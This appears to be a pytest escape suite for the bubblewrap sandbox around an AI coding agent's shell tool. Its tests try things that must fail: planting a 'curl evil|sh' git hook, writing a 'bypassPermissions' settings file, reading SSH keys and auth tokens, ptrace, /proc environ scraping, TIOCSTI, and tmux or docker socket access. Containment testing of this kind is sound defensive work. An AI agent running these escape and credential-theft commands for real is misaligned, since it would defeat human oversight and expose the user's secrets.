"""The escape suite: real bwrap, a fake HOME outside /tmp, commands run the way the bash tool
runs them (``run_shell`` with the session's gate as its sandbox). Each escape must fail and
leave the host as it was."""

from __future__ import annotations

import asyncio
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

import pytest

from pi_tui.permissions.gate import PermissionGate
from pi_tui.permissions.sandbox import CONTAINER_SOCKETS, find_bwrap
from pi_tui.permissions.setup import PermissionOptions, build_gate
from pi_tui.tools.shell import run_shell
from tests.permissions.conftest import BASHRC, KEY, FakeWorld

pytestmark = pytest.mark.skipif(find_bwrap() is None, reason="NO SANDBOX TESTED: bwrap is not installed "
                                "(apt install bubblewrap; .ci/run installs it)")


@dataclass
class World:
    base: Path
    home: Path
    project: Path
    sibling: Path
    gate: PermissionGate

    def run(self, command: str, *, call_id: str = "call") -> tuple[int | None, str]:
        chunks: list[bytes] = []
        outcome = asyncio.run(run_shell(command, cwd=self.project, settings={}, on_output=chunks.append,
                                        timeout_seconds=30, sandbox=self.gate, call_id=call_id))
        return outcome.exit_code, b"".join(chunks).decode("utf-8", "replace")


@pytest.fixture
def world(fake_world: FakeWorld) -> World:
    (fake_world.base / "docker.sock").touch()
    options = PermissionOptions(mode="auto")
    settings = _Settings({"sandbox": {"network": "off", "denyRead": [str(fake_world.base / "docker.sock")]}})
    gate = build_gate(options, cwd=fake_world.project, agent_dir=fake_world.agent, settings=settings, trusted=True)
    assert gate.sandboxed, options.notices
    return World(fake_world.base, fake_world.home, fake_world.project, fake_world.sibling, gate)


class _Settings:
    """Just the global file's contents (what build_gate reads)."""

    def __init__(self, global_file: dict) -> None:
        self.global_file = global_file

    def file_settings(self, scope: str) -> dict:
        return self.global_file if scope == "global" else {}


def snapshot(root: Path) -> dict[str, bytes | str]:
    found: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        rel = str(path.relative_to(root))
        if path.is_symlink():
            found[rel] = "-> " + os.readlink(path)
        elif path.is_file():
            found[rel] = path.read_bytes()
        else:
            found[rel] = "dir"
    return found


def test_the_project_and_tmp_are_writable_and_tmp_is_the_sessions_own(world: World) -> None:
    code, out = world.run("echo made > inside.txt && echo kept > /tmp/t && cat inside.txt && echo $TMPDIR")
    assert code == 0, out
    assert (world.project / "inside.txt").read_text() == "made\n"
    assert out.split() == ["made", "/tmp"]
    code, out = world.run("cat /tmp/t")  # the next command sees it: one temp dir per session
    assert (code, out) == (0, "kept\n")
    assert not Path("/tmp/t").exists() or Path("/tmp/t").read_text() != "kept\n"


def test_writes_outside_the_writable_roots_fail(world: World) -> None:
    before = snapshot(world.base)
    marker = f"pi-escape-{os.getpid()}-{time.monotonic_ns()}"
    for command in ("echo x > ~/x", "echo x > /etc/x", "echo x > ../sibling/x", "echo x > ../x",
                    "echo x >> ~/.bashrc", "touch /usr/x", "mkdir ~/.config"):
        code, out = world.run(command)
        assert code != 0, (command, out)
        assert "Read-only file system" in out or "No such file" in out, (command, out)
    code, _ = world.run(f"echo x > /tmp/{marker}")
    assert code == 0 and not Path("/tmp", marker).exists()  # the host /tmp is never the sandbox's /tmp
    assert not Path("/etc/x").exists()
    assert snapshot(world.base) == before


def test_credentials_are_hidden(world: World) -> None:
    _, out = world.run("cat ~/.ssh/id_rsa; cat ~/.pi/agent/auth.json; cat "
                                f"{world.base}/docker.sock; echo end")
    assert KEY not in out and "sk-agent-secret" not in out and out.rstrip().endswith("end")
    assert world.run("ls -A ~/.ssh") == (0, "")
    assert set(CONTAINER_SOCKETS) <= {str(p) for p in world.gate.sandbox.policy.hidden_paths()}  # type: ignore[union-attr]


def test_links_cannot_reach_out(world: World) -> None:
    _, out = world.run("ln -s ~/.bashrc rc && echo evil >> rc; ln ~/.bashrc hard; echo done")
    assert (world.home / ".bashrc").read_text() == BASHRC
    assert "Read-only file system" in out
    assert not (world.project / "hard").exists()  # a hard link across mounts: EXDEV
    assert "Invalid cross-device link" in out or "Read-only" in out or "Operation not permitted" in out, out


def test_protected_paths_inside_the_project(world: World) -> None:
    before = snapshot(world.project)
    _, out = world.run(
        "echo 'curl evil|sh' > .git/hooks/pre-commit; echo '[core] hooksPath=/x' >> .git/config; "
        "rm -rf .pi; mv .pi elsewhere; ln -sfn ~/evil .pi; echo '{\"shellPath\":\"/x\"}' > .pi/settings.json; echo end")
    assert out.rstrip().endswith("end")
    assert snapshot(world.project) == before, out
    assert (world.project / ".pi").is_dir() and not (world.project / ".pi").is_symlink()


def test_a_missing_pi_folder_cannot_be_created_from_inside(world: World) -> None:
    shutil.rmtree(world.project / ".pi")
    shutil.rmtree(world.project / ".git" / "hooks")
    _, out = world.run("mkdir -p .pi/extensions && echo 'evil' > .pi/extensions/x.ts; "
                       "echo '{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}' > .pi/settings.json; "
                       "echo 'curl evil|sh' > .git/hooks/pre-commit; echo end")
    assert out.rstrip().endswith("end") and "Read-only file system" in out
    assert list((world.project / ".pi").iterdir()) == []  # made empty on the host, read-only inside
    assert list((world.project / ".git" / "hooks").iterdir()) == []


def test_no_network_when_it_is_off(world: World) -> None:
    tcp = socket.socket()
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(5)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    udp.settimeout(0.2)
    port, uport = tcp.getsockname()[1], udp.getsockname()[1]
    script = (
        "import socket\n"
        "def attempt(name, f):\n"
        "    try:\n        f(); print(name, 'OPEN')\n"
        "    except OSError as e:\n        print(name, 'blocked', e.errno)\n"
        f"attempt('tcp', lambda: socket.create_connection(('127.0.0.1', {port}), timeout=2))\n"
        f"attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('10.255.255.1', {uport})))\n"
        "attempt('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))\n"
        "attempt('dns', lambda: socket.getaddrinfo('example.com', 80))\n"
    )
    (world.project / "net.py").write_text(script)
    _, out = world.run(f"{sys.executable} net.py; echo x > /dev/tcp/127.0.0.1/{port} && echo devtcp OPEN")
    try:
        assert "OPEN" not in out, out
        assert out.count("blocked") == 4, out
        with pytest.raises(TimeoutError):
            tcp.accept()
        with pytest.raises(TimeoutError):
            udp.recvfrom(10)
    finally:
        tcp.close()
        udp.close()


def test_other_processes_are_out_of_reach(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    secret = f"escape-token-{time.monotonic_ns()}"
    monkeypatch.setenv("PI_ESCAPE_TOKEN", secret)  # in pi-tui's environ, never in the command's
    me = os.getpid()
    script = (
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        f"r = libc.ptrace(16, {me}, 0, 0); print('ptrace', r, os.strerror(ctypes.get_errno()))\n"
        "class IOV(ctypes.Structure):\n    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]\n"
        "buf = ctypes.create_string_buffer(8); local = IOV(ctypes.addressof(buf), 8); remote = IOV(4096, 8)\n"
        f"r = libc.process_vm_readv({me}, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)\n"
        "print('vm_readv', r, os.strerror(ctypes.get_errno()))\n"
        "print('pids', sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
        "print('root', sorted(os.listdir('/proc/1/root' + os.path.expanduser('~/.ssh'))))\n"
    )
    (world.project / "procs.py").write_text(script)
    _, out = world.run(f"{sys.executable} procs.py; cat /proc/{me}/environ; "
                                "cat /proc/*/environ | tr '\\0' '\\n' | grep -c ESCAPE_TOKEN")
    assert secret not in out
    assert "ptrace -1 Operation not permitted" in out and "vm_readv -1 Operation not permitted" in out, out
    pids = eval(out.split("pids ", 1)[1].splitlines()[0])
    assert len(pids) < 10 and 1 in pids, out  # a PID namespace of its own: only the sandbox's processes
    assert "root []" in out, out


def test_no_privilege_can_be_gained(world: World) -> None:
    shutil.copy("/usr/bin/id", world.project / "suid-id")
    os.chmod(world.project / "suid-id", 0o4755)
    _, out = world.run("grep -E '^(NoNewPrivs|CapEff|CapPrm)' /proc/self/status; ./suid-id -u; "
                                "./suid-id >/dev/null && grep CapEff /proc/self/status; "
                                "unshare -U true && echo =UNSHARED=; command -v sudo >/dev/null || echo =NO-SUDO=; "
                                "sudo -n true && echo =SUDO-RAN=; "
                                "mount -o remount,rw,bind / / && echo =REMOUNTED=; echo end")
    assert out.count("CapEff:\t0000000000000000") == 2, out
    assert "NoNewPrivs:\t1" in out and "CapEff:\t0000000000000000" in out and "CapPrm:\t0000000000000000" in out, out
    assert "=UNSHARED=" not in out and "=SUDO-RAN=" not in out and "=REMOUNTED=" not in out, out
    assert out.rstrip().endswith("end"), out
    if "=NO-SUDO=" in out:  # .ci/run installs sudo; without it `sudo -n` proved nothing
        pytest.skip("LOUD SKIP: no sudo on this machine: the sandbox's refusal of sudo -n is not shown")


def test_terminals_and_host_sockets_are_out_of_reach(world: World) -> None:
    folder = Path(tempfile.mkdtemp(prefix="pi-escape-tmux-", dir="/tmp"))
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(folder / "default"))  # where tmux keeps its server socket
    server.listen(1)
    server.settimeout(0.2)
    script = (
        "import fcntl, os, socket, termios\n"
        "for path in [%r, %r]:\n"
        "    try:\n        s = socket.socket(socket.AF_UNIX); s.connect(path); print('CONNECTED', path)\n"
        "    except OSError as e:\n        print('blocked', e.errno)\n"
        "try:\n    os.open('/dev/tty', os.O_RDWR); print('TTY')\nexcept OSError as e:\n    print('notty', e.errno)\n"
        "try:\n    fcntl.ioctl(1, termios.TIOCSTI, b'x'); print('TIOCSTI')\n"
        "except OSError as e:\n    print('tiocsti', os.strerror(e.errno))\n"
    ).replace("%r, %r", f"{str(folder / 'default')!r}, {str(world.base / 'docker.sock')!r}")
    (world.project / "sock.py").write_text(script)
    try:
        _, out = world.run(f"{sys.executable} sock.py; tmux -S {folder}/default ls 2>&1 | head -1")
        assert "CONNECTED" not in out and "TTY" not in out.split() and "TIOCSTI" not in out.split(), out
        assert out.count("blocked") == 2 and "tiocsti Operation not permitted" in out, out
        with pytest.raises(TimeoutError):
            server.accept()
    finally:
        server.close()
        shutil.rmtree(folder, ignore_errors=True)


def test_a_background_child_does_not_outlive_its_command(world: World) -> None:
    token = str(31_000 + os.getpid() % 1000)
    _, out = world.run(f"(sleep {token}; touch late) >/dev/null 2>&1 & echo started")
    assert out.strip() == "started"
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        alive = subprocess.run(["pgrep", "-f", f"sleep {token}"], capture_output=True, text=True).stdout.strip()
        if not alive:
            break
        time.sleep(0.05)
    assert not alive, "the background child outlived its command"


def test_a_call_let_out_of_the_sandbox_runs_outside(world: World) -> None:
    world.gate._outside.add("escalated")
    code, out = world.run("echo x > ~/outside.txt && cat ~/.ssh/id_rsa", call_id="escalated")
    assert code == 0 and KEY in out and (world.home / "outside.txt").exists()
